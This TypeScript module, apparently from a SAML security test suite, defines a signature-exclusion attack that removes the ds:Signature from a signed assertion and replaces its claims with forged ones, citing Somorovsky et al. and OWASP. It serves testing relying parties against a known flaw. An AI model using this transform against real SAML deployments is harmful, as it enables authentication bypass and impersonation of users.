/**
 * Signature exclusion: the ds:Signature is taken out and the claims changed at will, for a
 * relying party that only checks a signature when one is present.
 * @see Somorovsky et al., USENIX Security 2012, §5 "Signature exclusion"; OWASP SAML Security
 *   Cheat Sheet ("Signature Exclusion")
 */
import { applyEvil, dropSignature, readSigned, write } from './edit.ts';
import type { SamlAttack } from './types.ts';

export const SIGNATURE_EXCLUSION: SamlAttack = {
  name: 'signature-exclusion',
  fixture: 'signature-exclusion-unsigned-evil',
  summary: 'the ds:Signature removed and the claims replaced by the evil ones',
  source: 'Somorovsky et al., "On Breaking SAML", USENIX Security 2012 (signature exclusion)',
  apply: ({ signed, evil }) => {
    const s = readSigned(signed);
    applyEvil(dropSignature(s.assertion), evil);
    return write(s.doc);
  },
};
